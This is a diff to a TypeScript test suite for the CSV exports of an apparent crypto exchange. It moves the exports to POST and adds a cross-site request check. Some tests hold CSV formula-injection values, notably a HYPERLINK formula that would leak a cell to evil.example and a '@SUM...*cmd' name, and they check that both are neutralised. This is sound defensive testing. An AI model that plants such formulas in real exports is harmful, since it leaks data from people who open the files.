@@ -38,6 +38,8 @@ describe('CSV exports', () => {
   const placed: Record<'awaiting' | 'paid' | 'cancelled' | 'kofi', TPlaced> = {} as never;
 
   const get = (url: string, cookie?: string) => t.request({ method: 'GET', url, ...(cookie ? { cookie } : {}) });
+  /** Exports are POST since issue 26: the cross-site check applies to them. */
+  const download = (url: string, cookie?: string) => t.request({ method: 'POST', url, ...(cookie ? { cookie } : {}) });
 
   async function place(cookie: string, amountFiat: string, fiatCurrency: 'GHS' | 'USD', paid: boolean): Promise<TPlaced> {
     const quote = await t.request({
@@ -102,7 +104,7 @@ describe('CSV exports', () => {
 
   describe('Order Management', () => {
     it('answers a dated CSV attachment with the documented header and one row per matching order', async () => {
-      const response = await get(`${EXPORT_PATHS.adminOrders}?status=pending`, staff.support);
+      const response = await download(`${EXPORT_PATHS.adminOrders}?status=pending`, staff.support);
       expect(response.statusCode, response.body).toBe(200);
       expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
       expect(response.headers['content-disposition']).toMatch(/^attachment; filename="cedicrypto-orders-\d{4}-\d{2}-\d{2}\.csv"$/);
@@ -114,7 +116,7 @@ describe('CSV exports', () => {
     });
 
     it('writes the amounts exactly as stored (plain decimals, GHS and USD) and who the customer is', async () => {
-      const { rows } = csvObjects((await get(`${EXPORT_PATHS.adminOrders}?q=${encodeURIComponent(ama.email)}`, admin)).body);
+      const { rows } = csvObjects((await download(`${EXPORT_PATHS.adminOrders}?q=${encodeURIComponent(ama.email)}`, admin)).body);
       expect(rows.map((row) => Number(row.orderId))).toEqual([placed.cancelled.id, placed.paid.id, placed.awaiting.id]);
       for (const row of rows) {
         const order = await adminOrder(Number(row.orderId));
@@ -152,7 +154,7 @@ describe('CSV exports', () => {
     });
 
     it('neutralises a formula in a cell: the cancel reason is text behind a single quote', async () => {
-      const response = await get(`${EXPORT_PATHS.adminOrders}?status=cancelled`, staff.manager);
+      const response = await download(`${EXPORT_PATHS.adminOrders}?status=cancelled`, staff.manager);
       // Quoted per RFC 4180 (it holds quotes and a comma), after the single quote.
       expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
       const { rows } = csvObjects(response.body);
@@ -163,7 +165,7 @@ describe('CSV exports', () => {
       for (const sort of ADMIN_ORDER_SORTS) {
         for (const dir of ['asc', 'desc'] as const) {
           const list = (await get(`/api/admin/orders?sort=${sort}&dir=${dir}&pageSize=100`, admin)).json().orders as TAdminOrder[];
-          const { rows } = csvObjects((await get(`${EXPORT_PATHS.adminOrders}?sort=${sort}&dir=${dir}`, admin)).body);
+          const { rows } = csvObjects((await download(`${EXPORT_PATHS.adminOrders}?sort=${sort}&dir=${dir}`, admin)).body);
           expect(
             rows.map((row) => Number(row.orderId)),
             `${sort} ${dir}`,
@@ -180,7 +182,7 @@ describe('CSV exports', () => {
         .where(eq(orders.id, placed.awaiting.id));
       try {
         const ids = async (query: string) =>
-          csvObjects((await get(`${EXPORT_PATHS.adminOrders}?${query}`, admin)).body).rows.map((row) => Number(row.orderId));
+          csvObjects((await download(`${EXPORT_PATHS.adminOrders}?${query}`, admin)).body).rows.map((row) => Number(row.orderId));
         expect(await ids('from=2025-01-10&to=2025-01-10')).toEqual([placed.awaiting.id]);
         expect(await ids('to=2025-01-09')).toEqual([]);
         expect(await ids('from=2025-01-11&to=2025-01-11')).toEqual([]);
@@ -191,7 +193,7 @@ describe('CSV exports', () => {
 
     it('writes who exported which filter to the audit log', async () => {
       const support = await t.createStaff('support');
-      const response = await get(`${EXPORT_PATHS.adminOrders}?status=pending&q=Serwaa&sort=amountFiat&dir=asc`, support.cookie);
+      const response = await download(`${EXPORT_PATHS.adminOrders}?status=pending&q=Serwaa&sort=amountFiat&dir=asc`, support.cookie);
       expect(response.statusCode).toBe(200);
       const entries = await t.database.db
         .select()
@@ -208,7 +210,7 @@ describe('CSV exports', () => {
 
     it('takes the list filter without paging, and refuses anything else', async () => {
       for (const query of ['page=2', 'pageSize=5', 'status=unknown', 'from=2025-02-30', 'role=super_admin']) {
-        const response = await get(`${EXPORT_PATHS.adminOrders}?${query}`, admin);
+        const response = await download(`${EXPORT_PATHS.adminOrders}?${query}`, admin);
         expect(response.statusCode, query).toBe(400);
         expect(response.json().error.code).toBe('VALIDATION');
       }
@@ -217,7 +219,7 @@ describe('CSV exports', () => {
 
   describe("a customer's order history", () => {
     it('holds their own orders only, without anyone else or staff columns', async () => {
-      const response = await get(EXPORT_PATHS.orderHistory, ama.cookie);
+      const response = await download(EXPORT_PATHS.orderHistory, ama.cookie);
       expect(response.statusCode, response.body).toBe(200);
       expect(response.headers['content-disposition']).toMatch(/^attachment; filename="cedicrypto-order-history-\d{4}-\d{2}-\d{2}\.csv"$/);
       const { header, rows } = csvObjects(response.body);
@@ -233,7 +235,7 @@ describe('CSV exports', () => {
         amountGhs: order.amountGhs,
         status: 'payment_submitted',
       });
-      const theirs = csvObjects((await get(EXPORT_PATHS.orderHistory, kofi.cookie)).body).rows;
+      const theirs = csvObjects((await download(EXPORT_PATHS.orderHistory, kofi.cookie)).body).rows;
       expect(theirs.map((row) => Number(row.orderId))).toEqual([placed.kofi.id]);
     });
 
@@ -245,18 +247,18 @@ describe('CSV exports', () => {
         .where(eq(orders.id, placed.paid.id));
       try {
         const ids = async (query: string) =>
-          csvObjects((await get(`${EXPORT_PATHS.orderHistory}?${query}`, ama.cookie)).body).rows.map((row) => Number(row.orderId));
+          csvObjects((await download(`${EXPORT_PATHS.orderHistory}?${query}`, ama.cookie)).body).rows.map((row) => Number(row.orderId));
         expect(await ids('from=2025-03-01&to=2025-03-01')).toEqual([placed.paid.id]);
         expect(await ids('from=2025-02-01&to=2025-02-28')).toEqual([]);
         expect(await ids('from=2025-03-02')).toEqual([placed.cancelled.id, placed.awaiting.id]);
         // An empty export is the header alone.
-        expect((await get(`${EXPORT_PATHS.orderHistory}?to=2024-12-31`, ama.cookie)).body).toBe(
+        expect((await download(`${EXPORT_PATHS.orderHistory}?to=2024-12-31`, ama.cookie)).body).toBe(
           `\uFEFF${ORDER_HISTORY_EXPORT_COLUMNS.join(',')}\r\n`,
         );
       } finally {
         await t.database.db.update(orders).set({ createdAt }).where(eq(orders.id, placed.paid.id));
       }
-      const backwards = await get(`${EXPORT_PATHS.orderHistory}?from=2025-03-02&to=2025-03-01`, ama.cookie);
+      const backwards = await download(`${EXPORT_PATHS.orderHistory}?from=2025-03-02&to=2025-03-01`, ama.cookie);
       expect(backwards.statusCode).toBe(400);
       expect(backwards.json().error).toMatchObject({
         code: 'VALIDATION',
@@ -270,7 +272,7 @@ describe('CSV exports', () => {
     it('exports customers as filtered (never staff), a formula-looking name neutralised, and audits it', async () => {
       await t.database.db.update(users).set({ fullName: '@SUM(1+1)*cmd' }).where(eq(users.id, kofi.id));
       try {
-        const response = await get(`${EXPORT_PATHS.users}?sort=fullName&dir=asc`, staff.compliance);
+        const response = await download(`${EXPORT_PATHS.users}?sort=fullName&dir=asc`, staff.compliance);
         expect(response.statusCode, response.body).toBe(200);
         expect(response.headers['content-disposition']).toMatch(/^attachment; filename="cedicrypto-users-\d{4}-\d{2}-\d{2}\.csv"$/);
         const { header, rows } = csvObjects(response.body);
@@ -281,7 +283,7 @@ describe('CSV exports', () => {
         const list = (await get('/api/admin/users?sort=fullName&dir=asc', admin)).json();
         expect(rows.map((row) => row.userId).slice(0, list.users.length)).toEqual(list.users.map((u: { id: string }) => u.id));
 
-        const verified = csvObjects((await get(`${EXPORT_PATHS.users}?kyc=verified&q=${encodeURIComponent(ama.email)}`, admin)).body);
+        const verified = csvObjects((await download(`${EXPORT_PATHS.users}?kyc=verified&q=${encodeURIComponent(ama.email)}`, admin)).body);
         expect(verified.rows).toEqual([
           {
             userId: ama.id,
@@ -317,7 +319,7 @@ describe('CSV exports', () => {
 
   describe('the audit log', () => {
     it('exports the entries as filtered, newest first, its own export entry first, JSON as text', async () => {
-      const all = await get(EXPORT_PATHS.audit, admin);
+      const all = await download(EXPORT_PATHS.audit, admin);
       expect(all.statusCode, all.body).toBe(200);
       expect(all.headers['content-disposition']).toMatch(/^attachment; filename="cedicrypto-audit-log-\d{4}-\d{2}-\d{2}\.csv"$/);
       const { header, rows } = csvObjects(all.body);
@@ -331,7 +333,7 @@ describe('CSV exports', () => {
       expect(rows[0]?.actorName).not.toBe('');
       expect(rows[0]?.targetKind).toEqual(expect.any(String));
 
-      const orderEntries = csvObjects((await get(`${EXPORT_PATHS.audit}?action=order.`, admin)).body).rows;
+      const orderEntries = csvObjects((await download(`${EXPORT_PATHS.audit}?action=order.`, admin)).body).rows;
       expect(orderEntries.length).toBeGreaterThan(0);
       expect(orderEntries.every((row) => row.action?.startsWith('order.'))).toBe(true);
       // The JSON of an entry (quotes, commas) reads back as it was stored.
@@ -363,10 +365,23 @@ describe('CSV exports', () => {
         [EXPORT_PATHS.orderHistory, admin, 403],
       ];
       for (const [url, cookie, status] of cases) {
-        const response = await get(url, cookie);
+        const response = await download(url, cookie);
         expect(response.statusCode, `${url} ${cookie === undefined ? 'anonymous' : ''}`).toBe(status);
         expect(response.headers['content-type']).toMatch(/json/);
         expect(response.headers['content-disposition']).toBeUndefined();
+      }
+    });
+
+    it('starts no export from a link or a form on another site (issue 26): GET is not a route, a cross-site POST is refused', async () => {
+      for (const url of Object.values(EXPORT_PATHS)) {
+        const cookie = url === EXPORT_PATHS.orderHistory ? ama.cookie : admin;
+        // No GET route (`/api/admin/orders/export` then reads as an order id, refused).
+        const linked = await get(url, cookie);
+        expect([400, 404], `${url} ${linked.body}`).toContain(linked.statusCode);
+        expect(linked.headers['content-disposition']).toBeUndefined();
+        const crossSite = await t.request({ method: 'POST', url, cookie, headers: { origin: 'https://evil.example' } });
+        expect(crossSite.statusCode, url).toBe(403);
+        expect(crossSite.json().error.code).toBe('CROSS_SITE');
       }
     });
 
@@ -411,7 +426,8 @@ describe('CSV exports', () => {
         const socket = connect(Number(port), hostname, () => {
           socket.write(
             [
-              `GET ${EXPORT_PATHS.adminOrders}?q=${encodeURIComponent(yaw.email)}&sort=submittedAt&dir=asc HTTP/1.1`,
+              `POST ${EXPORT_PATHS.adminOrders}?q=${encodeURIComponent(yaw.email)}&sort=submittedAt&dir=asc HTTP/1.1`,
+              'Content-Length: 0',
               `Host: ${hostname}:${port}`,
               `Origin: ${TEST_ORIGIN}`,
               `Cookie: ${admin}`,
@@ -503,14 +519,14 @@ describe('CSV export request limit', () => {
     const customer = await t.signUp();
     const { max, windowSeconds } = RATE_LIMITS.exportsPerUser;
     for (let i = 0; i < max; i += 1) {
-      expect((await t.request({ method: 'GET', url: EXPORT_PATHS.orderHistory, cookie: customer.cookie })).statusCode).toBe(200);
+      expect((await t.request({ method: 'POST', url: EXPORT_PATHS.orderHistory, cookie: customer.cookie })).statusCode).toBe(200);
     }
-    const refused = await t.request({ method: 'GET', url: EXPORT_PATHS.orderHistory, cookie: customer.cookie });
+    const refused = await t.request({ method: 'POST', url: EXPORT_PATHS.orderHistory, cookie: customer.cookie });
     expect(refused.statusCode).toBe(429);
     expect(refused.json().error.code).toBe('RATE_LIMITED');
     expect(Number(refused.headers['retry-after'])).toBeLessThanOrEqual(windowSeconds);
     // Another person has their own allowance.
     const other = await t.signUp();
-    expect((await t.request({ method: 'GET', url: EXPORT_PATHS.orderHistory, cookie: other.cookie })).statusCode).toBe(200);
+    expect((await t.request({ method: 'POST', url: EXPORT_PATHS.orderHistory, cookie: other.cookie })).statusCode).toBe(200);
   });
 });
